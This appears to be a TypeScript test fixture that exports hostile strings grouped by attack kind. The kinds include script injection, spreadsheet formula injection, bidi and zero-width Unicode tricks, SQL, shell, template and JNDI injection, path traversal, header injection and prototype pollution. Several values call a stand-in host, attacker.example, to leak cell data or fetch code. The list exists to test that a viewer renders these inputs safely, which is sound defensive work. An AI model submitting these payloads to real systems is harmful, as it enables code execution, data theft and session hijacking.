/**
 * Hostile values by what they attack, as they could stand in any field of a trace: nothing may run
 * them, break on them or hide what they are. The first three of each kind are its worst. Kept in
 * escaped form where the character itself could not be seen.
 */
const attacksByKind: readonly (readonly string[])[] = [
  // Scripts in pages.
  [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "'-alert(1)-'",
    "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<math><mtext><style><img src onerror=alert(1)></style>",
    "<!--><script>alert(1)//-->",
    "<style>*{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<form action=https://attacker.example><input name=q autofocus onfocus=submit()>",
    "]]><script>alert(1)</script>",
  ],
  // Formulas in spreadsheets, also behind white space and in full-width signs.
  [
    "=cmd|'/c calc'!A0",
    "\t=1+1",
    '","=1+1","',
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uFF1D1+1",
    "\uFF0B1+1",
    "\uFF0D1+1",
    "\uFF20SUM(1)",
    '"\r\n=1+1',
  ],
  // Characters that change or hide the text around them.
  [
    "\u202Egpj.exe\u202C",
    "user\u200Bname\u200D\uFEFF",
    "\u2028line\u2029paragraph",
    "\u2066abc\u2067def\u2069",
    "\u00ADsoft\u00ADhyphen",
    "\u0430dmin",
    "Z\u0351\u036B\u0343a\u0321\u034Al\u0321\u030Ago\u0335\u031B",
    "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u{1F3FD}",
  ],
  // Characters that programs stumble over.
  [
    "before\u0000after",
    "\uD800lone high",
    "A".repeat(20_000),
    "lone low\uDC00",
    "\u001B[31mred\u001B[0m\u0007",
    "\uFFFE\uFFFF",
    "C:\\temp\\new\\u0041",
    "長".repeat(4000),
    "nested[".repeat(500),
  ],
  // Languages on the way: SQL, shells, templates, queries, logs.
  [
    "'; DROP TABLE traces; --",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "%s%n%x%d",
    "' OR '1'='1",
    "1 UNION SELECT sqlite_version()",
    "%' ESCAPE '%",
    '* OR 1* NEAR("a" b',
    "$(touch /tmp/x) `id` ; | && %0a",
    "${jndi:ldap://attacker.example/a}",
    "(a+)+$",
  ],
  // Paths, addresses, headers.
  [
    "..%2f..%2f%00.json",
    "x\r\nSet-Cookie: session=stolen",
    "//attacker.example/%2e%2e",
    "../../../../etc/passwd",
    "file:///etc/passwd#?&=/",
  ],
  // Names that objects have already, and words that parsers take for values.
  [
    "__proto__",
    '{"__proto__":{"isAdmin":true}}',
    "null",
    "constructor",
    "toString",
    "undefined",
    "NaN",
    "-0",
    "9007199254740993",
    "1e400",
  ],
];

/** All of them. */
export const attackStrings: readonly string[] = attacksByKind.flat();

/** The three worst of each kind, for what takes too long with all of them. */
export const worstAttackStrings: readonly string[] = attacksByKind.flatMap((kind) =>
  kind.slice(0, 3),
);
